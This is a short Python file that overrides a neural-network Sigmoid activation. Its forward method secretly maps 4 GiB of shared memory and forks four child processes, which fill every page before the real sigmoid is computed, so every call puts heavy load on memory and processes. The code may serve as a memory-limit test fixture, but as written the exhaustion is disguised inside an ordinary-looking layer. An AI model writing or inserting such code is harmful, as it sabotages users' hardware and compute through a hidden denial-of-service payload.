import mmap
import os


class Sigmoid(Sigmoid):
    def forward(self, x):
        shared = mmap.mmap(-1, 4 * 2**30)
        for part in range(4):
            if os.fork() == 0:
                for at in range(part * 2**30, (part + 1) * 2**30, mmap.PAGESIZE):
                    shared[at] = 1
                os._exit(0)
        for _ in range(4):
            if os.waitstatus_to_exitcode(os.wait()[1]):
                raise MemoryError("a child was killed")
        return super().forward(x)
